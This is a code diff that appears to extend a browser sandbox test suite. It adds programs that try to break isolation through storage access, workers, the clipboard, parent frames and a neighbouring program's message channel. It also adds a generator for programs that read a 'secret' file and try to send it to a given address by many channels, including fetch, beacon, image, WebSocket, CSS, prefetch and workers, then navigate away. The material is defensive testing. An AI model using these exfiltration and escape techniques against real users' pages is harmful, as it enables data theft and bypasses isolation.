@@ -23,8 +23,9 @@ const canOpen = (factory: IDBFactory) => new Promise((resolve, reject) => {
   opening.onsuccess = () => resolve(true);
   opening.onerror = () => reject(opening.error);
 });
-const framed = (address: string) => new Promise((resolve, reject) => {
+const framed = (address: string, sandbox?: string) => new Promise((resolve, reject) => {
   const frame = document.createElement("iframe");
+  if (sandbox) frame.setAttribute("sandbox", sandbox);
   frame.src = address;
   frame.onload = () => {
     try {
@@ -61,6 +62,29 @@ const ways: Record<string, () => unknown> = {
   "a new window": () => open("/editor") ?? Promise.reject(new Error("none")),
   "a frame of the site": () => framed(new URL("/live/frame.html", document.baseURI).href),
   "an empty frame": () => framed("about:blank"),
+  "storage access": async () => { await document.requestStorageAccess(); return localStorage.secret; },
+  "a new service worker": () => navigator.serviceWorker.register(new URL("/sw.js", document.baseURI)),
+  "a shared worker's IndexedDB": () => new Promise((resolve, reject) => {
+    const code = 'onconnect = ({ ports: [port] }) => { try { const o = indexedDB.open("secret"); o.onsuccess = () => port.postMessage(1); } catch {} }';
+    const worker = new SharedWorker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
+    worker.port.onmessage = resolve;
+    worker.onerror = reject;
+  }),
+  "a worker's private files": () => inWorker('try { navigator.storage.getDirectory().then(() => postMessage(1), () => postMessage(0)); } catch { postMessage(0); }'),
+  "a frame with another sandbox": () => framed(new URL("/live/frame.html", document.baseURI).href, "allow-scripts allow-same-origin"),
+  clipboard: () => navigator.clipboard.readText(),
+  "the page by a link": () => Object.assign(document.body.appendChild(document.createElement("a")), { href: "/editor", target: "_top" }).click(),
+  "the page by a form": () => Object.assign(document.body.appendChild(document.createElement("form")), { action: "/editor", target: "_parent" }).submit(),
+  "the page by its name": () => open(new URL("/editor", document.baseURI), "_parent") ?? Promise.reject(new Error("none")),
+  "another program's frame": () => [...Array(parent.length).keys()].map((at) => {
+    const { port1, port2 } = new MessageChannel();
+    parent[at]!.postMessage("connect", "*", [port2]);
+    return new Promise((resolve) => {
+      port1.onmessage = () => resolve(true);
+      port1.postMessage({ id: "1", type: "APPLY", path: ["position"], argumentList: [] });
+      setTimeout(resolve, 500, undefined);
+    });
+  }).at(-1),
   "parent's frames": () => [...Array(parent.length).keys()].some((at) => parent[at] !== window && parent[at]!.document) || Promise.reject(new Error("none")),
 };
 const reached: string[] = [];
@@ -72,3 +96,53 @@ for (const [name, reach] of Object.entries(ways)) {
   if (value) reached.push(name);
 }
 console.log("${REACHED}" + (reached.join(", ") || "nothing"));`;
+
+/** Ways to another page, each of which may end the program. */
+const LEAVING: Record<string, string> = {
+  form: 'add("form", { action: to("form"), method: "post" }).submit()',
+  download: 'add("a", { href: to("download"), download: "file" }).click()',
+  window: 'open(to("window"))',
+  refresh: 'add("meta", { httpEquiv: "refresh", content: "0; url=" + to("refresh") })',
+  navigation: 'location.href = to("navigation")',
+};
+
+/** Programs that try to send their `video` to another site. */
+export const sendingTo = (address: string): string[] =>
+  Object.values(LEAVING).map(
+    (leave) => `
+const secret = await (await fetch(video)).text();
+const to = (way: string) => "${address}/" + way + "?" + secret;
+const add = (name: string, properties: object): any => document.body.appendChild(Object.assign(document.createElement(name), properties));
+const ways: (() => unknown)[] = [
+  () => fetch(to("fetch"), { mode: "no-cors" }),
+  () => { const request = new XMLHttpRequest(); request.open("GET", to("request")); request.send(); },
+  () => navigator.sendBeacon(to("beacon")),
+  () => { new Image().src = to("image"); },
+  () => { document.createElement("video").src = to("video"); },
+  () => new EventSource(to("events")),
+  () => new WebSocket(to("socket").replace("http", "ws")),
+  () => import(to("script")),
+  () => add("link", { rel: "stylesheet", href: to("style") }),
+  () => add("link", { rel: "prefetch", href: to("prefetch") }),
+  () => new FontFace("f", "url(" + to("font") + ")").load(),
+  () => add("p", { style: "background: url(" + to("background") + ")" }),
+  () => add("iframe", { src: to("frame") }),
+  () => add("object", { data: to("object") }),
+  () => add("a", { ping: to("ping"), href: "#" }).click(),
+  () => new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to("worker")) + ", { mode: 'no-cors' })"]))),
+];
+const tryOut = (way: () => unknown) => Promise.resolve().then(way).catch(() => {});
+for (const way of ways) void tryOut(way);
+await new Promise((resolve) => setTimeout(resolve, 1000));
+console.log("leaving");
+await tryOut(() => ${leave});`,
+  );
+
+/** Chooses a file of the reader's. Runs in a page. */
+export function chooseSecretFile(): void {
+  const input = document.querySelector<HTMLInputElement>("input[type=file]")!;
+  const chosen = new DataTransfer();
+  chosen.items.add(new File(["secret"], "mine.mp4", { type: "video/mp4" }));
+  input.files = chosen.files;
+  input.dispatchEvent(new Event("change", { bubbles: true }));
+}
